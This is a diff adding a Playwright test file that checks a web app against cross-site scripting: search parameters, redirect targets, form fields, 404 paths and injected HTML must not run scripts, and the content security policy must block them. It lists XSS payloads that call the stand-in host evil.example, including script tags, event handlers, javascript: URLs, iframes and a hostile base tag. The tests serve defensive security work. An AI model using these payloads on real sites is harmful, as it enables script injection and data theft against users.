@@ -1,0 +1,140 @@
+import { routes } from '@/lib/routes';
+import { REPORTS } from './routes';
+import { expectNothingOf, expectUntouched, HOSTILE, test } from './support/hostile';
+import { expect, POLICY_VIOLATION } from './support/test';
+
+// A client of its own, so that what other tests send does not count against these.
+test.use({ extraHTTPHeaders: { 'X-Forwarded-For': '198.51.100.88' } });
+
+test.describe('nothing that is typed into the site is run', () => {
+  const q = encodeURIComponent(HOSTILE);
+
+  const ADDRESSES = {
+    // Two halves, because a question is cut after two hundred signs.
+    'a search': `${routes.blogSearch}?q=${encodeURIComponent(HOSTILE.slice(0, 190))}`,
+    'a longer search': `${routes.blogSearch}?q=${encodeURIComponent(HOSTILE.slice(-190))}`,
+    'a search that finds something': `${routes.blogSearch}?q=gold&page=${q}`,
+    'a place to go to after signing in': `${routes.web}?callbackUrl=${q}`,
+    'a filter': `${routes.web}?filter=${q}&q=${q}`,
+    'the address of the front page': `/?${q}#${q}`,
+    'a colour': `${routes.embed(REPORTS[0] ?? '')}?theme=${q}`,
+  };
+
+  test('from an address', async ({ page }) => {
+    for (const [what, path] of Object.entries(ADDRESSES))
+      await test.step(what, async () => {
+        await page.goto(path);
+        await expectUntouched(page);
+        await expectNothingOf(page);
+      });
+  });
+
+  test('from the place to go to after signing in', async ({ page }) => {
+    await page.goto(`${routes.web}?callbackUrl=${encodeURIComponent('javascript:hit()')}`);
+    await expect(page.locator('input[name=callbackUrl]').first()).toHaveValue(routes.web);
+  });
+
+  test.describe('names nobody has', () => {
+    test.use({ expectedErrors: [/status of 404/] });
+
+    test('from the name of a page', async ({ page }) => {
+      for (const folder of ['/reports/', '/blogs/', '/v/', '/', '/web/insights/'])
+        await test.step(folder, async () => {
+          expect((await page.goto(folder + q))?.status()).toBe(404);
+          await expectUntouched(page);
+          await expectNothingOf(page);
+        });
+    });
+  });
+
+  test('from a message that comes back with what was typed', async ({ page }) => {
+    await page.goto(routes.contactForm);
+    // As a browser without script sends it.
+    await page.getByRole('form', { name: 'Contact us' }).evaluate((form: HTMLFormElement, hostile) => {
+      for (const field of form.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea'))
+        if (['email', 'phone_number', 'message'].includes(field.name)) field.value = hostile;
+      form.submit();
+    }, HOSTILE);
+    await expect(page.getByRole('alert').first()).toHaveText('Please enter a valid email address');
+    await expect(page.getByRole('textbox', { name: 'Message (optional)' })).toHaveValue(HOSTILE);
+    await expectUntouched(page);
+    await expectNothingOf(page);
+  });
+
+  test('from an address to sign in with that comes back', async ({ page }) => {
+    await page.goto(routes.web);
+    await page.locator('input[name=email]').evaluate((field: HTMLInputElement, hostile) => {
+      field.type = 'text';
+      field.value = hostile;
+      field.form?.submit();
+    }, HOSTILE);
+    await expect(page.getByRole('main').getByRole('alert')).toBeVisible();
+    await expectUntouched(page);
+    await expectNothingOf(page);
+  });
+});
+
+test.describe('even if a page were to write it out', () => {
+  // What the browser says of each thing it does not do. One pattern: a list of two would be read as a fixture's options.
+  const refusals = new RegExp(`content security policy|${POLICY_VIOLATION}|status of 404`, 'i');
+  test.use({ expectedErrors: [refusals] });
+
+  for (const path of [
+    routes.home,
+    routes.report(REPORTS[0] ?? ''),
+    routes.web,
+    '/no-such-page',
+    routes.embed(REPORTS[0] ?? ''),
+  ])
+    test(`${path} runs nothing of it`, async ({ page }) => {
+      const reached: string[] = [];
+      await page.route('https://evil.example/**', (route) => {
+        reached.push(route.request().url());
+        return route.fulfill({ body: 'hit()' });
+      });
+      await page.route(path, async (route) => {
+        const response = await route.fetch();
+        // React leaves alone what it does not know at the end of a page.
+        const body = (await response.text()).replace('</body>', `${UNESCAPED}</body>`);
+        await route.fulfill({ response, body });
+      });
+      await page.goto(path);
+      await expectUntouched(page);
+      const refused = (directive: string) =>
+        page.waitForEvent('console', (said) => said.text().includes(`${POLICY_VIOLATION} ${directive}`));
+      const press = (name: string) =>
+        page.getByText(name).evaluate((element: HTMLElement) => element.click());
+      await Promise.all([refused('script-src'), press('Press here')]);
+      await Promise.all([refused('form-action'), press('Send there')]);
+      expect(reached).toEqual([]);
+    });
+});
+
+/** What an attacker would write where a field is shown, if it were shown as it is. */
+const UNESCAPED = [
+  '<base href="https://evil.example/">',
+  '<script>hit()</script><script src="https://evil.example/a.js"></script><script nonce="">hit()</script>',
+  '<script src="data:text/javascript,hit()"></script><script type="module">hit()</script>',
+  '<img src="https://evil.example/a.png" onerror="hit()"><img src="data:," onerror="hit()"><svg onload="hit()"></svg>',
+  '<iframe srcdoc="<script>parent.hit()</script>"></iframe><iframe src="https://evil.example/"></iframe>',
+  '<iframe src="javascript:parent.hit()"></iframe>',
+  '<object data="https://evil.example/a"></object><embed src="https://evil.example/a">',
+  '<link rel="stylesheet" href="https://evil.example/a.css"><style>body{background:url(https://evil.example/b)}</style>',
+  '<p style="background:url(https://evil.example/c)" onmouseover="hit()"><a href="javascript:hit()">Press here</a></p>',
+  '<form action="https://evil.example/"><button>Send there</button></form>',
+].join('');
+
+test.describe('what the policy forbids', () => {
+  test.use({ expectedErrors: [new RegExp(`Content Security Policy|${POLICY_VIOLATION}`)] });
+
+  test('fails a test as an error of the page', async ({ page }) => {
+    await page.goto(routes.home);
+    const said = page.waitForEvent('console', (message) => message.text().startsWith(POLICY_VIOLATION));
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = '1';
+      document.body.append(script);
+    });
+    expect((await said).type()).toBe('error');
+  });
+});
